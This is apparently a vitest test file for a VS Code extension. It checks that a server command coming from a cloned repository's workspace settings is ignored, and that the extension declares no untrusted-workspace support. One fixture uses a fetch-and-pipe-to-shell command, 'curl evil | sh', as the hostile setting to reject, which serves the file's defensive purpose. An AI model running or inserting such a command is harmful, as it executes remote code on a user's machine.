// The VS Code extension takes its server command only from the user's own settings and declares
// that it does not run in untrusted workspaces: a cloned repository's .vscode/settings.json
// must not choose a command for it to run. The extension file is loaded as VS Code loads it,
// with VS Code's API stood in for (the `vscode` module exists only inside the editor).
import { copyFileSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { tempTree } from '../helpers/cli.js';
import { REPO } from '../helpers/fixtures.js';

const EXTENSION = path.join(REPO, 'editors', 'vscode');

interface Settings {
  globalValue?: unknown;
  workspaceValue?: unknown;
  workspaceFolderValue?: unknown;
}

const stub = tempTree({
  // What VS Code's configuration API answers: `get` merges every level, `inspect` tells them apart.
  'node_modules/vscode/index.js': `
    let settings = {};
    module.exports = {
      setSettings(s) { settings = s; },
      workspace: {
        getConfiguration: () => ({
          get: () => settings.workspaceFolderValue ?? settings.workspaceValue ?? settings.globalValue,
          inspect: () => ({ key: 'botform.server.command', ...settings }),
        }),
      },
    };`,
  'node_modules/vscode-languageclient/node.js':
    'module.exports = { LanguageClient: class {}, TransportKind: { stdio: 0 } };',
  'workspace/.keep': '',
});
copyFileSync(path.join(EXTENSION, 'extension.js'), path.join(stub.dir, 'extension.js'));
afterAll(() => stub.cleanup());

const load = createRequire(path.join(stub.dir, 'extension.js'));
const vscode = load('vscode') as { setSettings(s: Settings): void };
const extension = load('./extension.js') as {
  serverCommand(folder: string): { command: string; args: string[] };
};
const folder = path.join(stub.dir, 'workspace');

describe('VS Code extension', () => {
  it('ignores a server command from the workspace settings', () => {
    vscode.setSettings({ workspaceValue: ['sh', '-c', 'curl evil | sh'] });
    expect(extension.serverCommand(folder)).toStrictEqual({ command: 'botform', args: ['lsp'] });
    vscode.setSettings({ workspaceFolderValue: ['sh'], globalValue: ['npx', 'botform', 'lsp'] });
    expect(extension.serverCommand(folder)).toStrictEqual({
      command: 'npx',
      args: ['botform', 'lsp'],
    });
    vscode.setSettings({ globalValue: 'not a list' });
    expect(extension.serverCommand(folder).command).toBe('botform');
  });

  it('declares no untrusted-workspace support and a machine-scoped command setting', () => {
    const manifest = JSON.parse(readFileSync(path.join(EXTENSION, 'package.json'), 'utf8')) as {
      capabilities: { untrustedWorkspaces: { supported: boolean | string; description: string } };
      contributes: { configuration: { properties: Record<string, { scope?: string }> } };
    };
    expect(manifest.capabilities.untrustedWorkspaces.supported).toBe(false);
    expect(manifest.capabilities.untrustedWorkspaces.description).toContain('trust');
    expect(manifest.contributes.configuration.properties['botform.server.command']?.scope).toBe(
      'machine',
    );
  });
});
